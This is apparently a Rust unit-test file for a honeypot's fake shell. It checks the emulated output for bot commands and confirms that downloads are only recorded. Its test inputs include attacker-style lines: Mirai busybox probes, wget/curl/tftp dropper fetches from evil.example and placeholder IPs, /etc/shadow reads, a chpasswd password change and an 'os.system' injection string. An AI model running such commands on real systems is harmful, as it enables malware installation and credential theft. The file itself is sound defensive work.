//! Unit tests of the fake shell: the commands bots run, with their exact output shapes.

use std::sync::Arc;

use super::*;

fn machine() -> Arc<Machine> {
    Machine::new(&ShellConfig {
        seed: Some(42),
        hostname: Some("web-07".into()),
        distro: Some("debian12".into()),
        users: vec!["alex".into()],
        cpus: Some(2),
        cpu_model: Some("AMD EPYC 7543 32-Core Processor".into()),
        ..Default::default()
    })
    .unwrap()
}

fn run(sh: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&sh.run_line(line).output).into_owned()
}

#[test]
fn prompt_and_identity() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    assert_eq!(sh.prompt(), "root@web-07:~# ");
    assert_eq!(run(&mut sh, "whoami"), "root\n");
    assert_eq!(run(&mut sh, "id"), "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(run(&mut sh, "hostname"), "web-07\n");
    assert!(run(&mut sh, "uname -a").starts_with("Linux web-07 6.1.0-"));
    assert_eq!(run(&mut sh, "uname"), "Linux\n");
    assert_eq!(run(&mut sh, "uname -m"), "x86_64\n");
    let mut u = Shell::new(&m, "alex");
    assert_eq!(u.prompt(), "alex@web-07:~$ ");
    assert!(run(&mut u, "id").starts_with("uid=1000(alex) gid=1000(alex)"));
    assert_eq!(run(&mut u, "pwd"), "/home/alex\n");
}

#[test]
fn unknown_login_user_gets_an_account() {
    let m = machine();
    let mut sh = Shell::new(&m, "oracle");
    assert_eq!(run(&mut sh, "pwd"), "/home/oracle\n");
    assert!(
        run(&mut sh, "cat /etc/passwd")
            .contains("oracle:x:1001:1001:oracle,,,:/home/oracle:/bin/bash\n")
    );
    // Another session does not see that account: copy on write.
    let mut other = Shell::new(&m, "root");
    assert!(!run(&mut other, "cat /etc/passwd").contains("oracle"));
}

#[test]
fn proc_files_and_free() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    let cpu = run(&mut sh, "cat /proc/cpuinfo");
    assert_eq!(cpu.matches("processor\t:").count(), 2);
    assert!(cpu.contains("model name\t: AMD EPYC 7543 32-Core Processor\n"));
    assert_eq!(run(&mut sh, "cat /proc/cpuinfo | grep name | wc -l"), "2\n");
    assert_eq!(
        run(
            &mut sh,
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"
        ),
        "AMD EPYC 7543 32-Core Processor \n"
    );
    assert!(run(&mut sh, "cat /proc/meminfo").starts_with("MemTotal:"));
    let free = run(&mut sh, "free -m");
    assert!(free.starts_with(
        "               total        used        free      shared  buff/cache   available\nMem:"
    ));
    let cols = run(&mut sh, "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'");
    assert_eq!(cols.split_whitespace().count(), 6, "{cols}");
    assert!(run(&mut sh, "w").contains("USER     TTY      FROM"));
    assert!(run(&mut sh, "uptime").contains(" user,  load average: "));
    assert_eq!(run(&mut sh, "nproc"), "2\n");
    assert!(run(&mut sh, "cat /etc/os-release").contains("bookworm"));
}

#[test]
fn mirai_probes() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    assert_eq!(run(&mut sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    let out = run(&mut sh, "enable; /bin/busybox MIRAI; cat /bin/echo | head -c 4");
    assert!(out.contains("enable enable\n"));
    assert!(out.contains("MIRAI: applet not found\n"));
    assert!(out.ends_with("\u{7f}ELF"));
    assert!(run(&mut sh, "busybox").starts_with("BusyBox v1.35.0"));
    assert_eq!(run(&mut sh, "busybox echo hi"), "hi\n");
}

#[test]
fn files_are_copy_on_write_per_session() {
    let m = machine();
    let mut a = Shell::new(&m, "root");
    let out =
        a.run_line("cd /tmp && echo -ne '\\x7fELF\\x01' > .x && chmod +x .x && ls -la .x && ./.x");
    assert_eq!(out.status, 0);
    let text = String::from_utf8_lossy(&out.output);
    assert!(text.starts_with("-rwxr-xr-x 1 root root 5 "), "{text}");
    assert_eq!(run(&mut a, "pwd"), "/tmp\n");
    let mut b = Shell::new(&m, "root");
    assert_eq!(
        run(&mut b, "ls /tmp/.x"),
        "ls: cannot access '/tmp/.x': No such file or directory\n"
    );
    let files = a.finish();
    assert_eq!(
        files,
        vec![ShellEvent::File { path: "/tmp/.x".into(), data: b"\x7fELF\x01".to_vec() }]
    );
    assert_eq!(run(&mut a, "rm -rf /tmp/.x; ls /tmp/.x 2>/dev/null; echo $?"), "2\n");
}

#[test]
fn users_cannot_write_everywhere() {
    let m = machine();
    let mut u = Shell::new(&m, "alex");
    assert_eq!(run(&mut u, "echo x > /etc/x"), "-bash: /etc/x: Permission denied\n");
    assert_eq!(run(&mut u, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
    assert_eq!(run(&mut u, "echo hi > ~/f; cat f"), "hi\n");
    let mut r = Shell::new(&m, "root");
    assert!(run(&mut r, "cat /etc/shadow").starts_with("root:$y$j9T$"));
}

#[test]
fn downloads_are_recorded_never_fetched() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    let out = sh.run_line(
        "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; curl -O http://evil.example/x; tftp 198.51.100.7 -c get t.sh; busybox tftp -g -r m.arm 198.51.100.8",
    );
    let urls: Vec<&str> = out
        .events
        .iter()
        .filter_map(|e| match e {
            ShellEvent::Download { url, .. } => Some(url.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        vec![
            "http://198.51.100.7/bins.sh",
            "http://evil.example/x",
            "tftp://198.51.100.7/t.sh",
            "tftp://198.51.100.8/m.arm"
        ]
    );
    let text = String::from_utf8_lossy(&out.output);
    assert!(text.contains("Connecting to 198.51.100.7:80... failed: Connection refused."));
    assert!(text.contains("curl: (6) Could not resolve host: evil.example"));
    assert!(text.contains("-bash: tftp: command not found"));
    assert!(matches!(&out.events[0], ShellEvent::Command { known: false, .. }));
    // Nothing was written.
    assert!(sh.finish().is_empty());
}

#[test]
fn operators_and_errors() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    assert_eq!(run(&mut sh, "foo"), "-bash: foo: command not found\n");
    assert_eq!(run(&mut sh, "false && echo a || echo b"), "b\n");
    assert_eq!(run(&mut sh, "true && echo a || echo b"), "a\n");
    assert_eq!(
        run(&mut sh, "echo 'unterminated"),
        "-bash: unexpected EOF while looking for matching `''\n"
    );
    assert_eq!(run(&mut sh, "| ls"), "-bash: syntax error near unexpected token `|'\n");
    assert_eq!(
        run(&mut sh, "echo $(whoami)@$(hostname) \"$HOME\" '$HOME'"),
        "root@web-07 /root $HOME\n"
    );
    assert_eq!(run(&mut sh, "X=5; echo $X"), "5\n");
    assert_eq!(run(&mut sh, "cd /nope"), "-bash: cd: /nope: No such file or directory\n");
    assert_eq!(run(&mut sh, "sh -c 'echo in; exit 3'; echo $?"), "in\n3\n");
    assert_eq!(run(&mut sh, "which ls wget nothere"), "/usr/bin/ls\n/usr/bin/wget\n");
    assert_eq!(run(&mut sh, "printf '%s-%d\\n' a 1 b 2"), "a-1\nb-2\n");
    assert_eq!(run(&mut sh, "echo \"root:Pa55\"|chpasswd|bash"), "");
    // Nothing is evaluated: a `man`-style injection is just an unknown command.
    assert_eq!(
        run(&mut sh, "man __import__('os').system('id')"),
        "-bash: man: command not found\n"
    );
    let out = sh.run_line("exit");
    assert!(out.exit);
}

#[test]
fn ls_shapes() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    let root = run(&mut sh, "ls /");
    assert!(root.starts_with("bin"), "{root}");
    assert!(root.contains("tmp"));
    let l = run(&mut sh, "ls -l /");
    assert!(l.starts_with("total "));
    assert!(l.contains(" bin -> usr/bin\n"), "{l}");
    assert!(run(&mut sh, "ls -la").contains(" .bashrc\n"));
    assert_eq!(run(&mut sh, "ls /bin | grep -c busybox"), "1\n");
    assert!(run(&mut sh, "ls -lh $(which ls)").starts_with("-rwxr-xr-x 1 root root 148K"));
}

#[test]
fn hostile_input_is_bounded() {
    let m = machine();
    let mut sh = Shell::new(&m, "root");
    let long = "a".repeat(MAX_LINE * 2);
    let out = sh.run_line(&long);
    assert!(out.output.len() < MAX_LINE + 100);
    // Nested substitution stops at the depth cap.
    let deep = "echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))";
    let _ = sh.run_line(deep);
    // Writing more than the session's budget fails like a full disk.
    let mut last = String::new();
    for _ in 0..40 {
        last = run(&mut sh, &format!("echo {} >> /tmp/big", "x".repeat(30_000)));
    }
    assert_eq!(last, "-bash: /tmp/big: No space left on device\n");
    let _ = sh.run_line("'\"`$((((((");
}
